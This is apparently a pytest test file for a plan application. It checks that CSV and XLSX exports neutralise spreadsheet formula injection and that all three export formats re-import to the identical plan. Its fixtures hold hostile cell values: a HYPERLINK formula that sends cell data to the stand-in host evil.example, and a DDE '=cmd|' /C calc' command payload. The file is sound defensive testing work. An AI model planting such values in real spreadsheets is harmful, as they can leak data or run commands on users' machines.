"""Exports are inert in a spreadsheet: no cell a plan's text fills is read as a formula, and
every export re-imports to the identical plan (on SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from storage.database import Database
from tests.planyaml import dump_raw, read_raw, sample_raw
from tests.storage.test_planfiles import export, import_file, snapshot

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Evidence pack")'
DANGEROUS = "=+-@\t\r"


def hostile_plan(tmp_path: Path) -> Path:
    """The sample, with texts a spreadsheet would run, in every kind of cell we write."""
    raw: dict[str, Any] = sample_raw()
    first = raw["themes"][0]["actions"]
    first[0]["text"] = FORMULA
    first[1]["outcome"] = "+44 20 7946 0000 is the helpline"
    first[2]["text"] = "-1 overdue is not a number"
    first[3]["text"] = "'=already behind an apostrophe"
    first[4]["text"] = "@SUM(A1:A9)"
    raw["themes"][1]["title"] = "=1+1"
    raw["plan"]["title"] = "-=Plan=-"
    raw["owners"][0]["aliases"] = ["=cmd|' /C calc'!A0", *raw["owners"][0].get("aliases", [])]
    raw["reporting"][0]["what"] = "@board"
    raw["reporting"][0]["cadences"][0]["label"] = "+quarterly"
    path = tmp_path / "hostile.yaml"
    path.write_text(dump_raw(raw, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture
def hostile(sample_database: Database, tmp_path: Path) -> Database:
    import_file(sample_database, hostile_plan(tmp_path))
    doc: Any = snapshot(sample_database)
    assert doc.actions[0].text == FORMULA and doc.themes[1][1] == "=1+1"
    return sample_database


def test_no_csv_cell_starts_like_a_formula_and_the_csv_reimports_exactly(
        hostile: Database, tmp_path: Path) -> None:
    before = snapshot(hostile)
    export(hostile, tmp_path / "plan.csv")
    with (tmp_path / "plan.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in set(DANGEROUS) and c], cells[:20]
    by_ref = {row[2]: row for row in rows[1:]}
    assert by_ref["1.1"][3] == "'" + FORMULA
    assert by_ref["1.4"][3] == "''=already behind an apostrophe"
    assert by_ref["1.15"][6] == "2014-09-30"  # dates stay dates
    import_file(hostile, tmp_path / "plan.csv")
    assert snapshot(hostile) == before


def test_no_xlsx_cell_is_a_formula_and_the_workbook_reimports_exactly(
        hostile: Database, tmp_path: Path) -> None:
    before = snapshot(hostile)
    export(hostile, tmp_path / "plan.xlsx")
    book = load_workbook(tmp_path / "plan.xlsx")  # formulas kept as formulas, not values
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value[:1]
                and c.value[0] in DANGEROUS]
    assert book["Actions"]["D2"].value == "'" + FORMULA
    numbers = [row[0].value for row in book["Themes"].iter_rows(min_row=2)]
    assert numbers == list(range(1, 10))  # numbers stay numbers
    import_file(hostile, tmp_path / "plan.xlsx")
    assert snapshot(hostile) == before


def test_yaml_keeps_the_text_as_written(hostile: Database, tmp_path: Path) -> None:
    before = snapshot(hostile)
    export(hostile, tmp_path / "plan.yaml")
    raw = read_raw(tmp_path / "plan.yaml")
    assert raw["themes"][0]["actions"][0]["text"] == FORMULA
    import_file(hostile, tmp_path / "plan.yaml")
    assert snapshot(hostile) == before
